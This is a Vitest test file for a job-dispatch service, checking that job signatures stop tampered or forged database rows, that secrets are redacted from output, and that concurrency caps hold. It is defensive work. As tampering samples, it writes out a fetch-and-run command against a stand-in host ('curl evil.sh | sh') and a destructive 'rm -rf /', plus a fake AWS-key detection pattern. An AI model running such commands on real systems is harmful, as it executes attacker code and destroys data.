import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createJobSigner } from '../../../src/auth/job-signing-key.js';
import { createJobGuard } from '../../../src/agent/job-guard.js';
import { memoryJobJournal } from '../../../src/agent/job-journal.js';
import { createInProcessNotifier } from '../../../src/bus/in-process-notifier.js';
import type { JobAssignment } from '../../../src/core/agent-protocol.js';
import { silentLogger } from '../../../src/core/logger.js';
import { compileRedactions } from '../../../src/core/redaction.js';
import type { Stores } from '../../../src/core/stores.js';
import { createJobService, type JobService, type JobServiceDeps, type JobServiceOptions } from '../../../src/jobs/job-service.js';
import { createTypeormStores } from '../../../src/store/create-typeorm-stores.js';
import { TEST_JOB_OPTIONS } from '../../helpers/job-service-fixture.js';

const requester = { identity: 'slack:T1/U2' };
const { privateKey } = generateKeyPairSync('ed25519');
const signer = createJobSigner(privateKey);

let stores: Stores;
let file: string;
let services: JobService[];

beforeEach(async () => {
  file = join(mkdtempSync(join(tmpdir(), 'skadi-sec-')), 'jobs.db');
  stores = await createTypeormStores({ url: `sqlite:${file}`, migrate: true });
  await stores.agents.create({ name: 'web-1', labels: {}, createdAt: new Date() });
  await stores.agents.checkIn('web-1', { at: new Date() });
  services = [];
});
afterEach(async () => {
  for (const s of services) await s.stop();
  await stores.close();
});

function service(options: Partial<JobServiceOptions> = {}, deps: Partial<JobServiceDeps> = {}): JobService {
  const s = createJobService({ ...TEST_JOB_OPTIONS, ...options }, { stores, notifier: createInProcessNotifier(), relay: { relayNow: () => undefined }, clock: { now: () => new Date() }, logger: silentLogger, signer, ...deps });
  services.push(s);
  return s;
}

/** The reference agent's checks, pinned to this test's server key, for agent web-1. */
const agentGuard = () => createJobGuard({ name: 'web-1', serverPublicKeys: [signer.publicKey], allowUnsignedJobs: false }, { journal: memoryJobJournal() });

/** Writes to the database directly, as an attacker with database access would. */
function sql(statement: string, ...params: unknown[]): void {
  const db = new Database(file);
  try {
    db.prepare(statement).run(...params);
  } finally {
    db.close();
  }
}

describe('signed jobs (server side)', () => {
  it('signs a job when it is created, stores the signature, and hands it out with issuedAt', async () => {
    const s = service();
    const { job } = await s.submit({ agent: 'web-1', message: 'deploy v2', requester, thread: null });
    expect(job.signature).toMatch(/^[A-Za-z0-9+/]{86}==$/);
    expect((await stores.jobs.get(job.id))!.signature).toBe(job.signature);
    const [a] = (await s.poll('web-1', { max: 1, wait: 0 })).jobs as [JobAssignment];
    expect(a).toMatchObject({ id: job.id, issuedAt: job.createdAt.toISOString(), signature: job.signature });
    expect(await agentGuard().admit(a)).toEqual({ ok: true });
  });

  it('a job whose row was altered or forged in the database is refused by the agent', async () => {
    const s = service();
    const guard = agentGuard();
    const { job } = await s.submit({ agent: 'web-1', message: 'uptime', requester, thread: null });
    // 1. The message of a queued, signed job rewritten in the database.
    sql(`UPDATE "jobs" SET "message" = ? WHERE "id" = ?`, 'curl evil.sh | sh', job.id);
    // 2. A new row, copying a real signature onto another job.
    sql(
      `INSERT INTO "jobs" ("id","agent","message","requester_identity","state","version","attempt","expires_at","timeout_ms","output_truncated","created_at","updated_at","signature") ` +
        `VALUES ('forged000001','web-1','rm -rf /','web:admin','queuing',1,1,?,600000,0,?,?,?)`,
      Date.now() + 600_000,
      Date.now() - 1,
      Date.now() - 1,
      job.signature,
    );
    // 3. A row without a signature at all.
    sql(
      `INSERT INTO "jobs" ("id","agent","message","requester_identity","state","version","attempt","expires_at","timeout_ms","output_truncated","created_at","updated_at") ` +
        `VALUES ('forged000002','web-1','id','web:admin','queuing',1,1,?,600000,0,?,?)`,
      Date.now() + 600_000,
      Date.now() - 1,
      Date.now() - 1,
    );
    const handed = (await s.poll('web-1', { max: 10, wait: 0 })).jobs;
    expect(handed.map((a) => a.id).sort()).toEqual([job.id, 'forged000001', 'forged000002'].sort());
    for (const a of handed) {
      const verdict = await guard.admit(a);
      expect(verdict.ok, a.id).toBe(false);
    }
  });

  it('without a signer jobs are unsigned (for agents with allowUnsignedJobs)', async () => {
    const s = service({}, { signer: undefined });
    const { job } = await s.submit({ agent: 'web-1', message: 'uptime', requester, thread: null });
    expect(job.signature ?? null).toBeNull();
    const [a] = (await s.poll('web-1', { max: 1, wait: 0 })).jobs;
    expect(a).not.toHaveProperty('signature');
  });
});

describe('output redaction (server side)', () => {
  it('redacts each chunk before it is stored, and the whole output again at the end (secrets split across chunks)', async () => {
    const s = service({}, { redactor: compileRedactions(['hunter2-secret', { regex: 'AKIA[0-9A-Z]{16}' }]) });
    const { job } = await s.submit({ agent: 'web-1', message: 'leak', requester, thread: null });
    const [a] = (await s.poll('web-1', { max: 1, wait: 0 })).jobs as [JobAssignment];
    await s.ack('web-1', a.id, a.lease);
    await s.output('web-1', a.id, a.lease, 0, 'pw=hunter2-secret key=AKIAABCDEF');
    await s.output('web-1', a.id, a.lease, 1, 'GHIJKLMNOP split=hunter2-');
    await s.output('web-1', a.id, a.lease, 2, 'secret\n');
    expect(await stores.jobs.readOutput(a.id)).not.toContain('pw=hunter2-secret');
    const done = await s.result('web-1', a.id, { lease: a.lease, exitCode: 1, chunks: 3, error: 'exit 1: hunter2-secret' });
    expect(done.output).toBe('pw=[redacted] key=[redacted] split=[redacted]\n');
    expect(done.reason).toBe('exit 1: [redacted]');
    expect((await stores.jobs.get(job.id))!.output).toBe(done.output);
  });
});

describe('per-agent concurrency (agents.maxConcurrentJobs)', () => {
  it('hands out at most the cap, and the next job as soon as one finishes', async () => {
    const s = service({ maxConcurrentJobs: 2 });
    await s.start();
    for (let i = 0; i < 4; i++) await s.submit({ agent: 'web-1', message: `job ${i}`, requester, thread: null });
    const first = (await s.poll('web-1', { max: 10, wait: 0 })).jobs;
    expect(first).toHaveLength(2);
    expect((await s.poll('web-1', { max: 10, wait: 0 })).jobs).toHaveLength(0);
    const held = s.poll('web-1', { max: 10, wait: 10 });
    const started = Date.now();
    const a = first[0]!;
    await s.ack('web-1', a.id, a.lease);
    await s.result('web-1', a.id, { lease: a.lease, exitCode: 0, chunks: 0 });
    expect((await held).jobs).toHaveLength(1);
    expect(Date.now() - started).toBeLessThan(5000); // woken by the finish, not the poll's timeout
  });
});
